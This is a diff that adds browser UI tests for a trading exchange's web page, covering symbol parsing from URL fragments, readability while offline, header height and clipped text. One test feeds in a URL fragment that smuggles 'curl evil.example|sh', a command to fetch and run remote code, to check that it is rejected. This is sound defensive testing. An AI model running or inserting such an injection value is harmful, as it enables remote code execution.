@@ -142,6 +142,79 @@ class PageAlone(unittest.TestCase):
             "document.querySelector('#book-empty').innerText.startsWith('There are no bids or offers for NEW')"
         )
 
+    def test_an_address_becomes_a_command_only_if_it_names_a_symbol(self):
+        for fragment in ("#trade/X;curl%20evil.example%7Csh%20%23", "#A%20B", "#" + "X" * 33):
+            with self.subTest(fragment=fragment):
+                page = self.with_symbols(symbol("SPY"), fragment=fragment)
+                page.wait_for("!document.querySelector('#book-empty').hidden")
+                self.assertEqual(
+                    page.text("#book-empty"),
+                    "The address does not name a symbol, which is 1 to 32 letters and digits. Choose one.",
+                )
+                self.assertNotIn("exchange-cli create symbol", page.text("#book-empty"))
+
+    def test_what_is_old_is_as_readable_as_before(self):
+        """Opacity takes contrast from all texts, whatever their colours."""
+        for fragment in ("", "#trade/SPY", "#replay/"):
+            page = self.with_symbols(symbol("SPY", "9.5"), fragment=fragment)
+            if not fragment.startswith("#replay"):
+                self.subscribed(page, "SPY")
+                page.evaluate("exchange.snapshot('SPY', 1, [['9', '1', 1]], [])")
+                page.wait_for_count(1, "#ladder .level")
+            page.evaluate("exchange.down = true; exchange.sockets.at(-1)?.close()")
+            page.wait_for_state("away")
+            if not fragment.startswith("#replay"):
+                page.wait_for("document.querySelector('.panel.book').matches('.waiting')")
+            faint = """[...document.querySelectorAll("main *, header *")].filter((one) => one.checkVisibility()
+                && !one.closest(":disabled") && !one.matches("input[type=radio]") && !(one instanceof SVGElement)
+                && getComputedStyle(one).opacity !== "1").map((one) => one.outerHTML)"""
+            self.assertEqual(page.evaluate(faint), [])
+            self.assertIn("What is shown is from", page.text("#notice"))
+
+    def test_the_first_screen_is_not_filled_by_its_header(self):
+        for width, height, most in ((1920, 1080, 55), (1280, 800, 50), (1000, 700, 50)):
+            for fragment in ("", "#trade/SPY", "#replay/"):
+                with self.subTest(width=width, fragment=fragment):
+                    page = self.with_symbols(
+                        symbol("SPY"), fragment=fragment, width=width, height=height
+                    )
+                    page.wait_for("document.querySelector('#uptime').innerText !== '–'")
+                    top = page.evaluate("document.querySelector('.top').offsetHeight")
+                    self.assertLessEqual(top, most)
+        page = self.with_symbols(symbol("SPY"), width=1280, height=800)
+        charts = "document.querySelector('#throughput-title').getBoundingClientRect().top"
+        self.assertLess(page.evaluate(charts), 600)
+        for fragment, most in (("", 95), ("#trade/SPY", 70)):
+            page = self.with_symbols(symbol("SPY"), fragment=fragment, width=390, height=844)
+            page.wait_for("document.querySelector('#uptime').innerText !== '–'")
+            self.assertLessEqual(page.evaluate("document.querySelector('.top').offsetHeight"), most)
+        chart = "document.querySelector('#candles').getBoundingClientRect().bottom"
+        self.assertLess(page.evaluate(chart), 600)  # the price comes before the ticket
+        for hint in page.evaluate(
+            "[...document.querySelectorAll('.at-keyboard')].map((one) => one.checkVisibility())"
+        ):
+            self.assertFalse(hint)
+
+    def test_no_text_of_the_trade_view_is_cut(self):
+        for width, height in ((1920, 1080), (1280, 800), (390, 844), (360, 740)):
+            with self.subTest(width=width):
+                page = self.with_symbols(
+                    symbol("SPY"), fragment="#trade/SPY", width=width, height=height
+                )
+                cut = """(() => {
+                  const canvas = document.createElement("canvas").getContext("2d");
+                  const placeholders = [...document.querySelectorAll(".trading input[placeholder]")].filter((one) => one.checkVisibility() && (() => {
+                    const style = getComputedStyle(one);
+                    canvas.font = style.font;
+                    const room = one.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight);
+                    return canvas.measureText(one.placeholder).width > room;
+                  })());
+                  const texts = [...document.querySelectorAll("main :is(p, dt, dd, h2, th, button), .top *")].filter((one) =>
+                    one.checkVisibility() && !one.closest(".unseen, .facts") && one.scrollWidth > one.clientWidth + 1 && one.clientWidth > 1);
+                  return [...placeholders, ...texts].map((one) => one.outerHTML);
+                })()"""
+                self.assertEqual(page.evaluate(cut), [])
+
     def test_a_server_that_does_not_answer_is_reported_and_asked_again(self):
         page = self.with_symbols(symbol("SPY"))
         self.subscribed(page, "SPY")
